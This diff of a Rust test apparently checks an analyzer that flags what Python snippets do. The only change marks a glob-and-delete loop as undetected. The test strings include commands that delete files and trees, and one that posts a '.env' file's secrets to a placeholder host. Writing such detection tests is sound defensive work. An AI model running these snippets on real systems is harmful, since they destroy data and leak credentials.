@@ -50,7 +50,7 @@ fn python_is_harmless_only_in_the_proven_subset() {
             ("remove a tree", "import shutil; shutil.rmtree(\"/tmp/demo\")", Deeds(vec![deletes_tree("/tmp/demo")])),
             ("remove a file", "import os; os.remove('x')", Deeds(vec![deletes("x")])),
             ("remove by path", "from pathlib import Path; Path('x').unlink()", Deeds(vec![deletes("x")])),
-            ("remove what is found", "import os, glob\nfor f in glob.glob('*'): os.remove(f)", Sees(deletes("\u{fdd0}"))),
+            ("remove what is found", "import os, glob\nfor f in glob.glob('*'): os.remove(f)", Hidden),
             ("remove by map", "import os; list(map(os.remove, ['a']))", Hidden),
             ("fetch", "import requests; print(requests.get('http://x').text)", Sees(fetches("http://x"))),
             ("post", "import requests; requests.post('http://x', data=open('.env').read())", Sees(sends("http://x"))),
